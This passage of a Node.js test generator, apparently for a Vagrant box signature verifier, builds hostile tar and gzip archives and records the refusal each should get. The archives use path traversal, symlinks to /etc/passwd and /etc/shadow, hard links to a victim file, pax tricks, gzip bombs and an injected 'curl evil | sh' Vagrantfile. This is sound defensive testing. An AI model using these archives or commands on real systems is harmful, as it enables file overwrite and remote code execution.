#!/usr/bin/env node
/**
 * Hostile-box corpus generator.
 *
 *   node test/corpus/generate.mjs OUTDIR
 *
 * Writes one box per case into OUTDIR plus OUTDIR/manifest.json, which lists
 * every case with the refusal code expected from each way of reading it:
 *
 *   verify  `boxsig verify BOX --name N --pin FPR --json`
 *   add     `boxsig add BOX --vagrant-home DIR --name N --pin FPR --json`
 *   dir     `boxsig verify --dir D --name N --version V --provider P --pin FPR --json`
 *           on what bsdtar extracts the way Vagrant does. "ACCEPT" means the
 *           extracted directory is exactly the signed box (the hostile part
 *           did not survive extraction); a case whose extraction bsdtar
 *           refuses is vacuous for `dir`; "SKIP" means the extraction would
 *           write too much to be worth it (the reason is given).
 *
 * Every box is built byte by byte here (tar headers by ./tar.mjs, gzip by
 * core zlib, signatures by OpenPGP.js, some through its low-level packet
 * API), so no binary is checked in. The manifests are signed for real: a
 * case fails for its hostile part, not because it is unsigned. Two control
 * cases ("valid-*") must be accepted everywhere.
 *
 * OUTDIR/escaped/ (empty) and OUTDIR/victim/secret.txt are targets the boxes
 * try to reach: nothing may ever be written there.
 */
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { createHash } from 'node:crypto';
import { fileURLToPath } from 'node:url';
import * as openpgp from 'openpgp';
import * as tar from './tar.mjs';

export const IDENTITY = { name: 'corpus/box', version: '1.0.0', provider: 'virtualbox' };
const PGP = { ...openpgp.config, v6Keys: false };
const DAY = 86_400_000;
const MiB = 1024 * 1024;

/** Deterministic pseudo-random bytes (xorshift32). */
export function pseudoRandom(n, seed) {
  const out = Buffer.alloc(n);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

export const sha256 = (b) => createHash('sha256').update(b).digest('hex');

/** RFC 8785 canonical JSON for strings, integers, arrays and objects (what boxsig signs). */
export function canonical(v) {
  if (Array.isArray(v)) return `[${v.map(canonical).join(',')}]`;
  if (v !== null && typeof v === 'object') {
    return `{${Object.keys(v)
      .filter((k) => v[k] !== undefined)
      .sort()
      .map((k) => `${JSON.stringify(k)}:${canonical(v[k])}`)
      .join(',')}}`;
  }
  return JSON.stringify(v);
}

const isoSeconds = (d) => d.toISOString().replace(/\.\d{3}Z$/, 'Z');

/** Manifest bytes for `files` ([{path, data}]). */
export function manifestFor(files, opts = {}) {
  const box = { ...IDENTITY, ...(opts.box ?? {}) };
  const m = {
    format: 1,
    box,
    created: isoSeconds(opts.created ?? new Date(Date.now() - 60_000)),
    expires: opts.expires ? isoSeconds(opts.expires) : undefined,
    claims: opts.claims ?? {},
    files: files.map((f) => ({ path: f.path, size: f.data.length, sha256: sha256(f.data) })).sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0)),
  };
  return Buffer.from(canonical(m), 'utf8');
}

export const fpr = (key) => key.getFingerprint().toUpperCase();

export async function newKey(opts = {}) {
  const { privateKey } = await openpgp.generateKey({
    type: 'ecc',
    curve: 'curve25519Legacy',
    userIDs: [{ name: opts.uid ?? 'boxsig corpus', email: 'corpus@boxsig.invalid' }],
    format: 'object',
    config: PGP,
    ...(opts.date ? { date: opts.date } : {}),
    ...(opts.keyExpirationTime ? { keyExpirationTime: opts.keyExpirationTime } : {}),
    ...(opts.subkeys ? { subkeys: opts.subkeys } : {}),
  });
  return privateKey;
}

/** A detached binary signature the ordinary way. */
export async function signDetached(data, key, date) {
  const message = await openpgp.createMessage({ binary: data });
  return openpgp.sign({ message, signingKeys: key, detached: true, format: 'armored', config: PGP, ...(date ? { date } : {}) });
}

/**
 * A detached signature made packet by packet, bypassing OpenPGP.js's checks
 * that the key may sign (expired, revoked, wrong flags) — what an attacker's
 * tool would do. `keyPacket` is a decrypted secret (sub)key packet.
 */
export async function rawSignature(keyPacket, data, opts = {}) {
  const sig = new openpgp.SignaturePacket();
  sig.signatureType = opts.type ?? openpgp.enums.signature.binary;
  sig.publicKeyAlgorithm = keyPacket.algorithm;
  sig.hashAlgorithm = openpgp.enums.hash.sha512;
  const literal = new openpgp.LiteralDataPacket();
  if (sig.signatureType === openpgp.enums.signature.text) literal.setText(data.toString('utf8'));
  else literal.setBytes(data, openpgp.enums.literal.binary);
  await sig.sign(keyPacket, literal, opts.date ?? new Date(), true, PGP);
  return sig;
}

export function armorSignatures(packets) {
  const list = new openpgp.PacketList();
  for (const p of packets) list.push(p);
  return new openpgp.Signature(list).armor(PGP);
}

export const armoredPublic = (key) => key.toPublic().armor(PGP);

/** A subkey binding signature with the given key flags (no back-signature: only valid for non-signing flags). */
async function bindSubkey(primary, subkey, flags, date) {
  const bind = new openpgp.SignaturePacket();
  bind.signatureType = openpgp.enums.signature.subkeyBinding;
  bind.publicKeyAlgorithm = primary.keyPacket.algorithm;
  bind.hashAlgorithm = openpgp.enums.hash.sha512;
  bind.keyFlags = [flags];
  await bind.sign(primary.keyPacket, { key: primary.keyPacket, bind: subkey.keyPacket }, date, false, PGP);
  return bind;
}

// ---------------------------------------------------------------- archives

const gz = (b) => zlib.gzipSync(b, { level: 6 });
/** gzip members each inflating to 1 MiB of `byte`: concatenated, they make a bomb of any size for ~1 KiB per MiB. */
function bombMembers(mib, byte = 0) {
  const one = gz(Buffer.alloc(MiB, byte));
  return Array.from({ length: mib }, () => one);
}

/**
 * boxsig's leading gzip member around `payload` (docs/FORMAT.md: FEXTRA subfield "BS", version 1,
 * the member's total length, little-endian 64-bit), written here from the format description.
 */
function leadingMember(payload) {
  const deflated = zlib.deflateRawSync(payload, { level: 9 });
  const header = Buffer.from([0x1f, 0x8b, 8, 4, 0, 0, 0, 0, 2, 255, 13, 0, 0x42, 0x53, 9, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0]);
  const total = header.length + deflated.length + 8;
  header.writeBigUInt64LE(BigInt(total), 17);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(zlib.crc32(payload), 0);
  trailer.writeUInt32LE(payload.length % 2 ** 32, 4);
  return Buffer.concat([header, deflated, trailer]);
}

/** A gzip member with the header fields given (FNAME, FCOMMENT, FEXTRA, FHCRC), the way other tools write them. */
function gzMember(data, { name, comment, extra, hcrc = false, flags = 0, method = 8 } = {}) {
  const parts = [Buffer.from([0x1f, 0x8b, method, flags | (extra ? 4 : 0) | (name ? 8 : 0) | (comment ? 16 : 0) | (hcrc ? 2 : 0), 0, 0, 0, 0, 0, 3])];
  if (extra) {
    const x = Buffer.alloc(2);
    x.writeUInt16LE(extra.length);
    parts.push(x, extra);
  }
  if (name) parts.push(Buffer.from(name + '\0', 'latin1'));
  if (comment) parts.push(Buffer.from(comment + '\0', 'latin1'));
  if (hcrc) {
    const h = Buffer.alloc(2);
    h.writeUInt16LE(zlib.crc32(Buffer.concat(parts)) & 0xffff);
    parts.push(h);
  }
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(zlib.crc32(data), 0);
  trailer.writeUInt32LE(data.length % 2 ** 32, 4);
  return Buffer.concat([...parts, zlib.deflateRawSync(data, { level: 6 }), trailer]);
}

export function baseFiles() {
  return [
    { path: 'metadata.json', data: Buffer.from('{"provider":"virtualbox"}') },
    { path: 'Vagrantfile', data: Buffer.from('Vagrant.configure("2") do |config|\nend\n') },
    { path: 'box-disk1.vmdk', data: pseudoRandom(40_000, 7) },
  ];
}

/**
 * The leading `.boxsig/` entries.
 * @param {{ manifest: Buffer | string, signatures?: Array<{ fpr: string, armored: any }>, keys?: Array<{ fpr: string, armored: any }>, extra?: any[] }} parts
 */
export function prefixEntries({ manifest, signatures = [], keys = [], extra = [] }) {
  const parts = [tar.dir('.boxsig/'), tar.file('.boxsig/manifest.json', manifest)];
  if (signatures.length) parts.push(tar.dir('.boxsig/signatures/'));
  for (const s of signatures) parts.push(tar.file(`.boxsig/signatures/${s.fpr}.asc`, s.armored));
  if (keys.length) parts.push(tar.dir('.boxsig/keys/'));
  for (const k of keys) parts.push(tar.file(`.boxsig/keys/${k.fpr}.asc`, k.armored));
  parts.push(...extra);
  return Buffer.concat(parts);
}

export const bodyEntries = (files, opts = {}) => Buffer.concat(files.map((f) => tar.file(f.path, f.data, opts)));

// ---------------------------------------------------------------- the corpus

export async function generateCorpus(outDir) {
  const started = Date.now();
  outDir = path.resolve(outDir);
  fs.mkdirSync(path.join(outDir, 'escaped'), { recursive: true });
  fs.mkdirSync(path.join(outDir, 'victim'), { recursive: true });
  fs.writeFileSync(path.join(outDir, 'victim', 'secret.txt'), 'the victim file must never change\n');
  const ESC = path.join(outDir, 'escaped');
  const VICTIM = path.join(outDir, 'victim', 'secret.txt');

  const key = await newKey();
  const FPR = fpr(key);
  const base = baseFiles();
  const byPath = Object.fromEntries(base.map((f) => [f.path, f]));
  const cases = [];

  /** A validly signed prefix for `files`, by `signer` (default: the corpus key). */
  const signedPrefix = async (files = base, opts = {}) => {
    const signer = opts.signer ?? key;
    const manifest = opts.manifest ?? manifestFor(files, opts.manifestOpts);
    const armored = opts.signature ?? (await signDetached(manifest, signer));
    return prefixEntries({
      manifest,
      signatures: [{ fpr: fpr(signer), armored }],
      keys: [{ fpr: fpr(signer), armored: armoredPublic(signer) }],
      extra: opts.extra,
    });
  };
  const P = await signedPrefix();
  const B = bodyEntries(base);
  const E = tar.end();

  /**
   * Register a case. `data`: the box bytes (a Buffer, or an array of tar
   * parts that are concatenated and gzip-compressed unless plain is set).
   * `expect`: { verify, add, dir } — add defaults to verify.
   */
  const add = (id, description, data, expect, opts = {}) => {
    let bytes;
    if (Buffer.isBuffer(data)) bytes = data;
    else {
      const t = Buffer.concat(data);
      bytes = opts.plain ? t : gz(t);
    }
    const file = `${id}.box`;
    fs.writeFileSync(path.join(outDir, file), bytes);
    const e = { verify: expect.verify, add: expect.add ?? expect.verify, dir: expect.dir ?? expect.verify };
    cases.push({
      id,
      file,
      description,
      expect: e,
      ...(opts.pin ? { pin: opts.pin } : {}),
      ...(opts.note ? { note: opts.note } : {}),
      ...(opts.todo ? { todo: opts.todo } : {}),
    });
  };

  // ---- controls: the harness must accept these everywhere
  add('valid-gzip', 'control: a valid signed gzip box', [P, B, E], { verify: 'ACCEPT', dir: 'ACCEPT' });
  add('valid-plain', 'control: a valid signed plain tar box', [P, B, E], { verify: 'ACCEPT', dir: 'ACCEPT' }, { plain: true });

  // ---- path traversal
  const onlyTheBox = 'bsdtar refuses the entry (vacuous); had it skipped it silently, what is left is exactly the signed box';
  add(
    'path-dotdot',
    'an extra entry ../escaped/dotdot.txt',
    [P, B, tar.file('../escaped/dotdot.txt', 'pwned\n'), E],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'ACCEPT',
    },
    { note: onlyTheBox },
  );
  add(
    'path-dotdot-inner',
    'an extra entry a/../../escaped/inner.txt',
    [P, B, tar.file('a/../../escaped/inner.txt', 'pwned\n'), E],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'ACCEPT',
    },
    { note: onlyTheBox },
  );
  add(
    'path-dot-dotdot',
    'an extra entry ./../escaped/dot.txt',
    [P, B, tar.file('./../escaped/dot.txt', 'pwned\n'), E],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'ACCEPT',
    },
    { note: onlyTheBox },
  );
  add(
    'path-dotdot-listed-name',
    'Vagrantfile written as ../Vagrantfile (the signed file then missing)',
    [P, bodyEntries([byPath['metadata.json'], byPath['box-disk1.vmdk']]), tar.file('../Vagrantfile', byPath.Vagrantfile.data), E],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'MISSING_FILE',
    },
  );
  add(
    'path-absolute',
    'an extra entry with an absolute path into escaped/',
    [P, B, tar.pax([['path', `${ESC}/absolute.txt`]]), tar.file('absolute.txt', 'pwned\n'), E],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'UNLISTED_FILE',
    },
    { note: 'bsdtar strips the leading "/" and extracts it inside the directory, where it is unlisted' },
  );
  add('path-absolute-ustar', 'an extra entry /boxsig-corpus-absolute.txt (ustar name)', [P, B, tar.file('/boxsig-corpus-absolute.txt', 'pwned\n'), E], {
    verify: 'UNSAFE_ENTRY',
    dir: 'UNLISTED_FILE',
  });
  add(
    'path-backslash-dotdot',
    'an extra entry ..\\escaped\\backslash.txt (Vagrant turns \\ into /)',
    [P, B, tar.file('..\\escaped\\backslash.txt', 'pwned\n'), E],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'UNLISTED_FILE',
    },
    { note: "Vagrant's -s '|\\\\|/|' replaces only the first backslash: ../escaped\\backslash.txt, which bsdtar refuses (vacuous)" },
  );
  add('path-backslash', 'an extra entry sub\\evil.sh (a directory separator for Vagrant and Windows)', [P, B, tar.file('sub\\evil.sh', 'echo pwned\n'), E], {
    verify: 'UNSAFE_ENTRY',
    dir: 'UNLISTED_FILE',
  });
  add(
    'path-long-component',
    'an extra entry whose name has a 300-byte component (pax path)',
    [P, B, tar.pax([['path', `${'c'.repeat(300)}.txt`]]), tar.file('long.txt', 'x'), E],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'UNLISTED_FILE',
    },
    { note: 'ext4 refuses names over 255 bytes: bsdtar fails (vacuous)' },
  );
  add(
    'path-too-long',
    'an extra entry with a 1100-byte path of short components',
    [P, B, tar.pax([['path', Array.from({ length: 11 }, (_, i) => `${i}`.padEnd(99, 'p')).join('/')]]), tar.file('toolong.txt', 'x'), E],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'UNLISTED_FILE',
    },
  );
  add('path-too-deep', 'an extra entry nested 40 directories deep', [P, B, tar.pax([['path', `${'d/'.repeat(40)}deep.txt`]]), tar.file('deep.txt', 'x'), E], {
    verify: 'UNSAFE_ENTRY',
    dir: 'UNLISTED_FILE',
  });
  add('path-control-char', 'an extra entry with a newline in its name', [P, B, tar.file('evil\nname', 'x'), E], {
    verify: 'UNSAFE_ENTRY',
    dir: 'UNLISTED_FILE',
  });
  add('path-colon', 'an extra entry C:evil (a drive-relative path on Windows)', [P, B, tar.file('C:evil', 'x'), E], {
    verify: 'UNSAFE_ENTRY',
    dir: 'UNLISTED_FILE',
  });
  add('path-empty', 'an extra regular file with an empty name', [P, B, tar.file('', 'x'), E], { verify: 'UNSAFE_ENTRY', dir: 'ACCEPT' }, { note: onlyTheBox });
  add('path-dot-file', 'a regular file named "."', [P, B, tar.file('.', 'x'), E], { verify: 'UNSAFE_ENTRY', dir: 'ACCEPT' }, { note: onlyTheBox });
  add(
    'path-file-trailing-slash',
    'a regular file (type 0) named "evil.sh/" with data',
    [P, B, tar.file('evil.sh/', 'echo pwned\n'), E],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'ACCEPT',
    },
    { note: 'bsdtar makes an empty directory of it and skips the data: nothing unlisted is left' },
  );
  add('path-invalid-utf8', 'an extra entry whose name is not UTF-8', [P, B, tar.file(Buffer.from([0x65, 0x76, 0xff, 0xfe, 0x6c]), 'x'), E], {
    verify: 'UNSAFE_ENTRY',
  });

  // ---- links
  add('symlink-absolute', 'an extra symlink to /etc/passwd', [P, B, tar.header({ name: 'passwd', type: '2', linkname: '/etc/passwd' }), E], {
    verify: 'UNSAFE_ENTRY',
  });
  add(
    'symlink-as-listed-file',
    'Vagrantfile is a symlink to metadata.json instead of a file',
    [P, bodyEntries([byPath['metadata.json'], byPath['box-disk1.vmdk']]), tar.header({ name: 'Vagrantfile', type: '2', linkname: 'metadata.json' }), E],
    {
      verify: 'UNSAFE_ENTRY',
    },
  );
  add(
    'symlink-then-file',
    'a symlink evil -> escaped/ (absolute), then evil/pwned.txt through it',
    [P, B, tar.header({ name: 'evil', type: '2', linkname: ESC }), tar.file('evil/pwned.txt', 'pwned\n'), E],
    {
      verify: 'UNSAFE_ENTRY',
    },
    { note: 'bsdtar refuses to extract through the link (vacuous, but the link itself is left: UNSAFE_ENTRY if it were not)' },
  );
  add(
    'symlink-relative-then-file',
    'a symlink up -> .. then up/escaped/pwned2.txt through it',
    [P, B, tar.header({ name: 'up', type: '2', linkname: '..' }), tar.file('up/escaped/pwned2.txt', 'pwned\n'), E],
    {
      verify: 'UNSAFE_ENTRY',
    },
  );
  add(
    'symlink-dir-then-listed-file',
    'a symlink box-dir -> escaped/ and a signed file box-dir/disk listed in the manifest',
    await (async () => {
      const files = [...base, { path: 'box-dir/disk', data: Buffer.from('disk\n') }];
      return [await signedPrefix(files), B, tar.header({ name: 'box-dir', type: '2', linkname: ESC }), tar.file('box-dir/disk', 'disk\n'), E];
    })(),
    { verify: 'UNSAFE_ENTRY' },
  );
  add('hardlink', 'an extra hard link to metadata.json', [P, B, tar.header({ name: 'hl', type: '1', linkname: 'metadata.json' }), E], {
    verify: 'UNSAFE_ENTRY',
  });
  add(
    'hardlink-as-listed-file',
    'Vagrantfile is a hard link to metadata.json',
    [P, bodyEntries([byPath['metadata.json'], byPath['box-disk1.vmdk']]), tar.header({ name: 'Vagrantfile', type: '1', linkname: 'metadata.json' }), E],
    {
      verify: 'UNSAFE_ENTRY',
    },
  );
  add(
    'hardlink-absolute-then-write',
    'a hard link to victim/secret.txt (absolute), then a file of the same name written through it',
    [P, B, tar.header({ name: 'hl', type: '1', linkname: VICTIM }), tar.file('hl', 'pwned\n'), E],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'UNLISTED_FILE',
    },
    { note: 'bsdtar strips the "/" from the target, which then does not exist (vacuous); the victim must be untouched either way' },
  );
  add(
    'hardlink-dotdot',
    'a hard link to ../victim/secret.txt',
    [P, B, tar.header({ name: 'hl', type: '1', linkname: '../victim/secret.txt' }), E],
    { verify: 'UNSAFE_ENTRY', dir: 'ACCEPT' },
    { note: onlyTheBox },
  );
  add(
    'gnu-longlink',
    'a GNU long link name record (K) and a symlink',
    [P, B, tar.gnuLong(`${ESC}/${'k'.repeat(120)}`, 'K'), tar.header({ name: 'klink', type: '2', linkname: 'x', format: 'gnu' }), E],
    {
      verify: 'UNSAFE_ENTRY',
    },
  );
  add(
    'pax-linkpath-symlink',
    'a symlink whose target comes from a pax linkpath',
    [P, B, tar.pax([['linkpath', '/etc/shadow']]), tar.header({ name: 'shadow', type: '2', linkname: 'harmless' }), E],
    {
      verify: 'UNSAFE_ENTRY',
    },
  );

  // ---- devices, FIFOs and other types
  add('chardev', 'a character device node (1,3)', [P, B, tar.header({ name: 'null', type: '3', devmajor: 1, devminor: 3 }), E], { verify: 'UNSAFE_ENTRY' });
  add('blockdev', 'a block device node (7,0)', [P, B, tar.header({ name: 'loop', type: '4', devmajor: 7, devminor: 0 }), E], { verify: 'UNSAFE_ENTRY' });
  add('fifo', 'a FIFO', [P, B, tar.header({ name: 'fifo', type: '6' }), E], { verify: 'UNSAFE_ENTRY' });
  add(
    'contiguous-file',
    'the signed Vagrantfile stored as a contiguous file (type 7)',
    [P, bodyEntries([byPath['metadata.json'], byPath['box-disk1.vmdk']]), tar.file('Vagrantfile', byPath.Vagrantfile.data, { type: '7' }), E],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'ACCEPT',
    },
    { note: 'bsdtar extracts type 7 as a regular file: the right bytes at the right place' },
  );
  add('unknown-type', 'an extra entry of unknown type Z (extractors treat it as a file)', [P, B, tar.file('z.bin', 'zzz', { type: 'Z' }), E], {
    verify: 'UNSAFE_ENTRY',
    dir: 'UNLISTED_FILE',
  });
  add('gnu-sparse', 'an extra GNU old-style sparse file (type S)', [P, B, tar.file('sparse.img', 'sparse', { type: 'S', format: 'gnu' }), E], {
    verify: 'UNSAFE_ENTRY',
    dir: 'UNLISTED_FILE',
  });
  add(
    'pax-sparse',
    'an extra pax (GNU 1.0) sparse file',
    [
      P,
      B,
      tar.pax([
        ['GNU.sparse.major', '1'],
        ['GNU.sparse.minor', '0'],
        ['GNU.sparse.name', 'sparse.img'],
        ['GNU.sparse.realsize', '4096'],
      ]),
      tar.file('GNUSparseFile.0/sparse.img', Buffer.concat([Buffer.from('1\n0\n4\n'), Buffer.alloc(506)]), {}),
      E,
    ],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'UNLISTED_FILE',
    },
  );

  // ---- duplicates
  const evilVagrantfile = Buffer.from(byPath.Vagrantfile.data.toString().replace('end', 'system("id")\nend').slice(0, byPath.Vagrantfile.data.length));
  add('dup-differs-same-size', 'Vagrantfile twice; the second copy differs (same size)', [P, B, tar.file('Vagrantfile', evilVagrantfile), E], {
    verify: 'DUPLICATE_ENTRY',
    dir: 'TAMPERED',
  });
  add('dup-differs-larger', 'Vagrantfile twice; the second copy is larger', [P, B, tar.file('Vagrantfile', 'system("curl evil | sh")\n'.repeat(3)), E], {
    verify: 'DUPLICATE_ENTRY',
    dir: 'TAMPERED',
  });
  add('dup-dot-slash', 'Vagrantfile, then ./Vagrantfile with other content', [P, B, tar.file('./Vagrantfile', evilVagrantfile), E], {
    verify: 'DUPLICATE_ENTRY',
    dir: 'TAMPERED',
  });
  add('dup-double-slash', 'Vagrantfile, then .//Vagrantfile with other content', [P, B, tar.file('.//Vagrantfile', evilVagrantfile), E], {
    verify: 'DUPLICATE_ENTRY',
    dir: 'TAMPERED',
  });
  add(
    'dup-identical',
    'Vagrantfile twice, identical',
    [P, B, tar.file('Vagrantfile', byPath.Vagrantfile.data), E],
    { verify: 'DUPLICATE_ENTRY', dir: 'ACCEPT' },
    { note: 'the extracted directory is the signed box' },
  );
  add('dup-metadata', 'metadata.json twice; the second names another provider', [P, B, tar.file('metadata.json', '{"provider":"libvirt"}'), E], {
    verify: 'DUPLICATE_ENTRY',
    dir: 'TAMPERED',
  });
  add('dup-dir-then-file', 'sub/ as a directory, then sub as a file', [P, B, tar.dir('sub/'), tar.file('sub', 'x'), E], {
    verify: 'UNSAFE_ENTRY',
    dir: 'UNLISTED_FILE',
  });
  add(
    'dup-file-then-dir',
    'a listed file, then a directory of the same name with a file inside',
    [P, B, tar.dir('Vagrantfile/'), tar.file('Vagrantfile/x', 'x'), E],
    { verify: 'UNSAFE_ENTRY', dir: 'UNLISTED_FILE' },
  );

  // ---- names that collide after Unicode normalisation or case folding
  const cafeNfc = 'caf\u00e9.txt';
  const cafeNfd = 'cafe\u0301.txt';
  const withCafe = [...base, { path: cafeNfc, data: Buffer.from('signed\n') }];
  const Pcafe = await signedPrefix(withCafe);
  add('unicode-nfc-nfd', 'café.txt (NFC, signed) and café.txt (NFD, extra)', [Pcafe, bodyEntries(withCafe), tar.file(cafeNfd, 'evil\n'), E], {
    verify: 'UNSAFE_ENTRY',
  });
  // the first name of each pair is signed, so that the second one is refused for colliding, not for being unlisted
  const collide = async (id, description, signedName, extraName) => {
    const files = [...base, { path: signedName, data: Buffer.from('signed\n') }];
    add(id, description, [await signedPrefix(files), bodyEntries(files), tar.file(extraName, 'evil\n'), E], { verify: 'UNSAFE_ENTRY' });
  };
  await collide('unicode-nfkc', 'file.txt (signed) and \ufb01le.txt (ligature, extra)', 'file.txt', '\ufb01le.txt');
  await collide('case-fold-dirs', 'Sub/a (signed) and sub/b (extra)', 'Sub/a', 'sub/b');
  await collide('case-fold-sharp-s', 'stra\u00dfe.txt (signed) and STRASSE.txt (extra)', 'stra\u00dfe.txt', 'STRASSE.txt');
  await collide('unicode-nfd-dir', 'caf\u00e9/a (NFC directory, signed) and cafe\u0301/b (NFD directory, extra)', 'caf\u00e9/a', 'cafe\u0301/b');
  add('windows-trailing-dot', '"Vagrantfile." next to Vagrantfile (the same file on Windows)', [P, B, tar.file('Vagrantfile.', 'system("id")\n'), E], {
    verify: 'UNSAFE_ENTRY',
  });
  add('boxsig-imitation', '.BOXSIG/manifest.json after the body', [P, B, tar.file('.BOXSIG/manifest.json', '{}'), E], { verify: 'UNSAFE_ENTRY' });

  // ---- pax headers
  add(
    'pax-path-traversal',
    'pax path ../escaped/pax.txt over a harmless ustar name',
    [P, B, tar.pax([['path', '../escaped/pax.txt']]), tar.file('harmless.txt', 'pwned\n'), E],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'ACCEPT',
    },
    { note: onlyTheBox },
  );
  add(
    'pax-path-unlisted',
    'pax path evil.sh over the ustar name Vagrantfile',
    [P, B, tar.pax([['path', 'evil.sh']]), tar.file('Vagrantfile', 'echo pwned\n'), E],
    { verify: 'UNLISTED_FILE' },
  );
  {
    // the ustar size covers a hidden entry that the pax size (which every extractor honours) exposes
    const vf = byPath.Vagrantfile.data;
    const hidden = tar.file('hidden.sh', 'echo pwned\n');
    const body = Buffer.concat([tar.pad(vf), hidden]);
    add(
      'pax-size-hidden-entry',
      'pax size shorter than the ustar size: a hidden entry inside the data',
      [
        P,
        bodyEntries([byPath['metadata.json'], byPath['box-disk1.vmdk']]),
        tar.pax([['size', String(vf.length)]]),
        tar.header({ name: 'Vagrantfile', size: body.length }),
        body,
        E,
      ],
      { verify: 'UNLISTED_FILE' },
    );
  }
  add(
    'pax-size-larger',
    'pax size larger than the manifest says',
    [
      P,
      bodyEntries([byPath['metadata.json'], byPath['box-disk1.vmdk']]),
      tar.pax([['size', String(byPath.Vagrantfile.data.length + 512)]]),
      tar.header({ name: 'Vagrantfile', size: byPath.Vagrantfile.data.length }),
      tar.pad(Buffer.concat([byPath.Vagrantfile.data, Buffer.alloc(512, 0x23)])),
      E,
    ],
    {
      verify: 'TAMPERED',
    },
  );
  add('pax-size-invalid', 'pax size "12x"', [P, B, tar.pax([['size', '12x']]), tar.file('x.txt', 'x'), E], { verify: 'MALFORMED', dir: 'UNLISTED_FILE' });
  add(
    'pax-unknown-keyword',
    'an unknown pax keyword on a listed file',
    [
      P,
      bodyEntries([byPath['metadata.json'], byPath['box-disk1.vmdk']]),
      tar.pax([['VENDOR.evil', 'yes']]),
      tar.file('Vagrantfile', byPath.Vagrantfile.data),
      E,
    ],
    {
      verify: 'MALFORMED',
      dir: 'ACCEPT',
    },
    { note: 'extractors ignore it: the right bytes at the right place' },
  );
  add(
    'pax-two-headers',
    'two pax headers for one entry (path in each)',
    [P, B, tar.pax([['path', 'a.txt']]), tar.pax([['path', 'b.txt']]), tar.file('c.txt', 'x'), E],
    { verify: 'MALFORMED', dir: 'UNLISTED_FILE' },
  );
  add(
    'pax-duplicate-keyword',
    'one pax header giving path twice',
    [
      P,
      B,
      tar.pax([
        ['path', 'a.txt'],
        ['path', 'b.txt'],
      ]),
      tar.file('c.txt', 'x'),
      E,
    ],
    { verify: 'MALFORMED', dir: 'UNLISTED_FILE' },
  );
  add('pax-global-path', 'a pax global header setting path', [P, B, tar.pax([['path', 'global.txt']], { global: true }), tar.file('c.txt', 'x'), E], {
    verify: 'MALFORMED',
    dir: 'UNLISTED_FILE',
  });
  add(
    'pax-hdrcharset-binary',
    'pax hdrcharset=BINARY',
    [
      P,
      B,
      tar.pax([
        ['hdrcharset', 'BINARY'],
        ['path', 'bin.txt'],
      ]),
      tar.file('c.txt', 'x'),
      E,
    ],
    { verify: 'MALFORMED', dir: 'UNLISTED_FILE' },
  );
  add('pax-path-nul', 'pax path with an embedded NUL', [P, B, tar.pax([['path', Buffer.from('ok.txt\0../../escaped/nul.txt')]]), tar.file('c.txt', 'x'), E], {
    verify: 'UNSAFE_ENTRY',
    dir: 'UNLISTED_FILE',
  });
  add('pax-record-bad-length', 'pax record whose length overruns the header', [P, B, tar.pax(Buffer.from('99 path=a.txt\n')), tar.file('c.txt', 'x'), E], {
    verify: 'MALFORMED',
    dir: 'UNLISTED_FILE',
  });
  add(
    'pax-nul-padding',
    'a pax header for a listed file, its records followed by NUL padding inside its size',
    [
      P,
      bodyEntries([byPath['metadata.json'], byPath['box-disk1.vmdk']]),
      tar.pax(Buffer.concat([tar.paxRecords([['path', 'Vagrantfile']]), Buffer.alloc(100)])),
      tar.file('decoy', byPath.Vagrantfile.data),
      E,
    ],
    { verify: 'MALFORMED', dir: 'ACCEPT' },
    { note: 'bsdtar warns "malformed pax extended attributes" and fails (vacuous)' },
  );
  add('pax-dangling', 'a pax header followed by the end-of-archive marker', [P, B, tar.pax([['path', 'nothing.txt']]), E], {
    verify: 'MALFORMED',
    dir: 'ACCEPT',
  });

  // ---- GNU long names
  add(
    'gnu-longname-traversal',
    'GNU long name ../escaped/long.txt',
    [P, B, tar.gnuLong(`../escaped/${'l'.repeat(110)}.txt`), tar.file('short.txt', 'pwned\n', { format: 'gnu' }), E],
    {
      verify: 'UNSAFE_ENTRY',
      dir: 'ACCEPT',
    },
    { note: onlyTheBox },
  );
  add(
    'gnu-longname-unlisted',
    'GNU long name (150 bytes), unlisted',
    [P, B, tar.gnuLong(`${'n'.repeat(150)}.sh`), tar.file('short.sh', 'echo pwned\n', { format: 'gnu' }), E],
    { verify: 'UNLISTED_FILE' },
  );
  add(
    'gnu-longname-twice',
    'two GNU long-name records for one entry',
    [P, B, tar.gnuLong(`${'a'.repeat(120)}`), tar.gnuLong(`${'b'.repeat(120)}`), tar.file('short.sh', 'x', { format: 'gnu' }), E],
    { verify: 'MALFORMED', dir: 'UNLISTED_FILE' },
  );
  add(
    'gnu-longname-and-pax-path',
    'a GNU long name and a pax path for one entry',
    [P, B, tar.gnuLong(`${'a'.repeat(120)}`), tar.pax([['path', 'b.txt']]), tar.file('short.sh', 'x'), E],
    { verify: 'MALFORMED', dir: 'UNLISTED_FILE' },
  );
  add(
    'gnu-longname-garbage',
    'a GNU long name with bytes after its NUL',
    [
      P,
      B,
      Buffer.concat([
        tar.header({ name: '././@LongLink', type: 'L', size: 140, format: 'gnu' }),
        tar.pad(Buffer.concat([Buffer.from('x'.repeat(110) + '.txt\0'), Buffer.from('../../escaped/after-nul.txt'.padEnd(25, 'z'))])),
      ]),
      tar.file('s.txt', 'x', { format: 'gnu' }),
      E,
    ],
    {
      verify: 'MALFORMED',
      dir: 'UNLISTED_FILE',
    },
  );
